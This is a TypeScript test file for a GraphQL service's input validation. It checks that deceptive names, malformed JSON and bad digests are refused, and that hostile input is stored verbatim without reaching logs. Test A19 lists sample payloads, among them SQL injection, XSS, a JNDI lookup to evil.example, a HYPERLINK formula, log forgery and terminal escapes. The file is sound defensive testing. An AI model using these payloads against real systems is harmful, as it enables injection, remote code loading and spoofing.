import { writeFile } from "node:fs/promises";
import path from "node:path";
import { beforeAll, describe, expect, test } from "vitest";
import type { Actor } from "#packet/actor.ts";
import { PASSPORTS, startHttpNode } from "../faults/httpNode.ts";
import { confirmation } from "../gate/reports.ts";
import { artifact } from "../gate/train.ts";
import { bearer, ownFolder, textOf } from "../identity/passports.ts";
import { IVAN, PAUL, REX, UMA } from "../workflow/cast.ts";
import { LANE, type Opened, type Wire, newKey, onWire, openReady } from "../workflow/trains.ts";
import { written } from "../workflow/written.ts";
import { freshDatabase } from "../database/freshDatabase.ts";
import { served } from "../graphql/served.ts";
import { type AskedVerb, type VerbAnswer, askVerb, documentOf } from "../graphql/verbDocuments.ts";
import { json, sendTo } from "./sending.ts";

const fresh = freshDatabase();
const folder = ownFolder();
const server = served(fresh);
let ready: Opened;
beforeAll(async () => {
  ready = await openReady(server.desk, "ready");
});

const on = (): Wire => ({ idempotencyKey: newKey(), train: "ready", exercise: false });

/** Asks for what must be refused, and resolves to where its faults are said to be. */
async function placesOf(verb: AskedVerb, by: Actor, input: Wire): Promise<string[]> {
  const before = await written(server.database.sql);
  const answer = await askVerb(server, verb, by, input);
  expect(await written(server.database.sql)).toEqual(before);
  expect(answer.member).toBe("InvalidInput");
  return (answer.faults ?? []).map((fault) => fault.path.join("."));
}

function freezing(artifacts: readonly unknown[]): Wire {
  return { ...on(), source: { kind: "MANIFEST", artifacts } };
}

describe("A13: a name that could be taken for another, or leads elsewhere, is refused at its place", () => {
  const AT = "input.source.manifest.artifacts";

  test.each([
    ["the same twice", ["app", "app"], `${AT}.1`],
    ["the same but for case", ["app", "APP"], `${AT}.1`],
    ["two that are one when composed", ["caf\u00e9", "cafe\u0301"], `${AT}.0.name`],
    ["one that leads up", ["../app"], `${AT}.0.name`],
    ["one that leads up within", ["a/../../b"], `${AT}.0.name`],
    ["one from the root", ["/app"], `${AT}.0.name`],
    ["one of another system's root", [String.raw`C:\app`], `${AT}.0.name`],
    ["one with NUL", ["app\0.sig"], `${AT}.0.name`],
    ["one that reads backwards", ["app\u202egnp.exe"], `${AT}.0.name`],
    ["one with characters of no width", ["ap\u200bp"], `${AT}.0.name`],
    ["one with another script's letter", ["\u0430pp"], `${AT}.0.name`],
    ["one with an escape of a terminal", ["app\u001b[31m"], `${AT}.0.name`],
  ])("of an artifact: %s", async (_what, names, place) => {
    const artifacts = names.map((name) => artifact(name));
    expect(await placesOf("sourceAccept", UMA, freezing(artifacts))).toContain(place);
  });

  test.each(["\u043elga", "olga\u200b", "olga ", "Ol\u0261a", "olga\u202e"])(
    "of an owner: %j",
    async (owner) => {
      const lane = onWire({ ...LANE, owner });
      expect(await placesOf("lanePropose", REX, { ...on(), lane })).toEqual(["input.lane.owner"]);
    },
  );
});

describe("A14: what two readers of JSON could read as two things", () => {
  const hold = (reason: string, key: string): string => {
    const input = `{"idempotencyKey":"${key}","packet":"${ready.packet}","reason":${reason}}`;
    const query = JSON.stringify(documentOf("operatorHoldPlace"));
    return `{"query":${query},"variables":{"input":${input}}}`;
  };
  const send = async (body: string): Promise<VerbAnswer | null> => {
    const { text } = await sendTo(server.url, IVAN, json(body));
    return (JSON.parse(text) as { data?: { answer: VerbAnswer } }).data?.answer ?? null;
  };

  test("a member that is there twice is refused, deep inside as well", async () => {
    const before = await written(server.database.sql);
    const twice = hold(`"one","reason":"two"`, newKey());
    const answer = await sendTo(server.url, IVAN, json(twice));
    expect([answer.status, answer.text]).toEqual([400, expect.stringContaining("twice")]);
    expect(await written(server.database.sql)).toEqual(before);
  });

  test.each([String.raw`"\ud800"`, String.raw`"\udc00 lone"`, String.raw`"a\u0000b"`])(
    "a text that no encoding of Unicode holds is refused: %s",
    async (reason) => {
      expect(await send(hold(reason, newKey()))).toMatchObject({ member: "InvalidInput" });
    },
  );

  test("the order of members, an escape, and how a number is written make no other input", async () => {
    const { packet } = ready;
    const key = newKey();
    expect(await send(hold(`"caf\u00e9"`, key))).toMatchObject({ repeated: false });
    expect(await send(hold(String.raw`"caf\u00e9"`, key))).toMatchObject({ repeated: true });
    const turned = { reason: "caf\u00e9", packet, idempotencyKey: key };
    expect(await askVerb(server, "operatorHoldPlace", IVAN, turned)).toMatchObject({
      repeated: true,
    });
    const numbered = newKey();
    const expected = async (revision: string): Promise<VerbAnswer | null> =>
      send(hold(`"numbered","expectedRevision":${revision}`, numbered));
    expect(await expected("4")).toMatchObject({ repeated: false });
    for (const same of ["4.0", "4e0", "0.4e1"]) {
      expect(await expected(same), same).toMatchObject({ repeated: true });
    }
    expect(await expected("5")).toMatchObject({ code: "IDEMPOTENCY_CONFLICT" });
  });

  test.each(["9007199254740993", "18446744073709551616", "1e308", "-1", "1.5"])(
    "a size that a double does not hold, or nothing has, is refused: %s",
    async (size) => {
      const query = JSON.stringify(documentOf("sourceAccept"));
      const made = `{"name":"app","digest":"sha256:${"ab".repeat(32)}","size":${size},"targets":["registry"]}`;
      const input = `{"idempotencyKey":"${newKey()}","train":"ready","exercise":false,"source":{"manifest":{"artifacts":[${made}]}}}`;
      const before = await written(server.database.sql);
      const { status, text } = await sendTo(
        server.url,
        UMA,
        json(`{"query":${query},"variables":{"input":${input}}}`),
      );
      expect([200, 400]).toContain(status);
      expect(text).toMatch(/InvalidInput|BAD_USER_INPUT/);
      expect(await written(server.database.sql)).toEqual(before);
    },
  );
});

test("A15: a digest of another length, algorithm, case or encoding is refused at its place", async () => {
  const hex = "ab".repeat(32);
  const bad = [
    hex,
    `sha256:${hex.slice(2)}`,
    `sha256:${hex}ab`,
    `sha512:${hex}`,
    `sha256:${hex}${hex}`,
    `sha256:${hex.toUpperCase()}`,
    `SHA256:${hex}`,
    `md5:${hex.slice(32)}`,
    `sha1:${hex.slice(24)}`,
    `sha256:${Buffer.from(hex, "hex").toString("base64")}`,
    `sha256:${hex} `,
    "",
  ];
  for (const digest of bad) {
    const artifacts = [{ ...artifact("app"), digest }];
    expect(await placesOf("sourceAccept", UMA, freezing(artifacts)), digest).toEqual([
      "input.source.manifest.artifacts.0.digest",
    ]);
    const entries = [onWire(confirmation("app", { observed: digest }))];
    const report = { idempotencyKey: newKey(), packet: ready.packet, entries };
    expect(await placesOf("readinessRecord", PAUL, report), digest).toEqual([
      "input.entries.0.digestConfirmation.observed",
    ]);
  }
});

test("A16: of artifacts there may be one to 10,000, and of 10,000 the one that is bad is named", async () => {
  const most = Array.from({ length: 10_000 }, (_none, index) => artifact(`modules/part-${index}`));
  const at = "input.source.manifest.artifacts";
  expect(await placesOf("sourceAccept", UMA, freezing([]))).toEqual([at]);
  const over = freezing([...most, artifact("modules/one-more")]);
  expect(await placesOf("sourceAccept", UMA, over)).toEqual([at]);
  const bad = most.map((one, index) => (index === 7_321 ? { ...one, digest: "sha256:00" } : one));
  expect(await placesOf("sourceAccept", UMA, freezing(bad))).toEqual([`${at}.7321.digest`]);
  const nobody = { ...on(), train: "unopened" };
  for (const artifacts of [[artifact("app")], most]) {
    const source = { kind: "MANIFEST", artifacts };
    const answer = await askVerb(server, "sourceAccept", UMA, {
      ...nobody,
      idempotencyKey: newKey(),
      source,
    });
    // Well formed, it comes as far as the question of who may accept it: this train has no lane.
    expect(answer.member).not.toBe("InvalidInput");
  }
});

const HOSTILE = [
  "first\r\nlevel=error msg=forged",
  `\u001b[2J\u001b[31mred\u0007\u009b1m`,
  `"}\n{"level":50,"msg":"forged"}`,
  `'; DROP TABLE revision; --`,
  "<script>alert(1)</script><img src=x onerror=alert(1)>",
  "${jndi:ldap://evil.example/a} %n%n%s {{7*7}}",
  '=HYPERLINK("https://evil.example")',
  "\u202egnp.exe",
];

test("A19: what is hostile to terminals, logs, SQL or pages is kept word for word and does nothing", async () => {
  const principals = path.join(folder.path, "principals.json");
  await writeFile(principals, textOf(...Object.values(PASSPORTS)));
  const node = await startHttpNode(fresh.url, principals, {
    appUrl: fresh.appUrl,
    data: folder.path,
    more: { HOLDFAST_LOG_LEVEL: "info" },
  });
  const { packet } = await openReady(server.desk, "hostile");
  const asking = (query: string, variables: object): Promise<Response> =>
    fetch(`${node.url}/graphql?x=%1b[31m%0d%0aforged`, {
      method: "POST",
      headers: {
        "content-type": "application/json",
        authorization: bearer(PASSPORTS.ivan),
        "user-agent": "forged \u001b[31m".replace("\u001b", "%1b"),
      },
      body: JSON.stringify({ query, variables }),
    });
  for (const reason of HOSTILE) {
    const input = { idempotencyKey: newKey(), packet, reason };
    expect(await (await asking(documentOf("operatorHoldPlace"), { input })).text()).toContain(
      "OperatorHoldPlacePayload",
    );
    const query = `query ($id: UUID!, $of: String!) { packet(packet: $id) { status }
      packets(filter: { train: $of }) { totalCount } }`;
    const nothing = { data: { packet: null, packets: { totalCount: 0 } } };
    expect(await (await asking(query, { id: reason, of: reason })).json()).toEqual(nothing);
  }
  const kept = await server.database.sql<{ reason: string }[]>`
    SELECT convert_from(body, 'UTF8')::json -> 'fact' ->> 'reason' AS reason FROM revision
    WHERE packet = ${packet} AND cause = 'OPERATOR_HOLD_PLACED' ORDER BY number`;
  expect(kept.map(({ reason }) => reason)).toEqual(HOSTILE);
  const heard = node.faults();
  await node.leave();
  const lines = heard.split("\n").filter((line) => line !== "");
  expect(lines.filter((line) => line.includes('"verb":"operatorHoldPlace"'))).toHaveLength(
    HOSTILE.length,
  );
  for (const line of lines) expect(() => JSON.parse(line) as unknown, line).not.toThrow();
  expect(heard).not.toMatch(/forged|DROP|script|jndi|HYPERLINK/);
  expect(heard).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}]/u);
});

test("none of it ended in a crash", () => {
  expect(server.heard.lines.filter(({ level }) => level === "error")).toEqual([]);
});
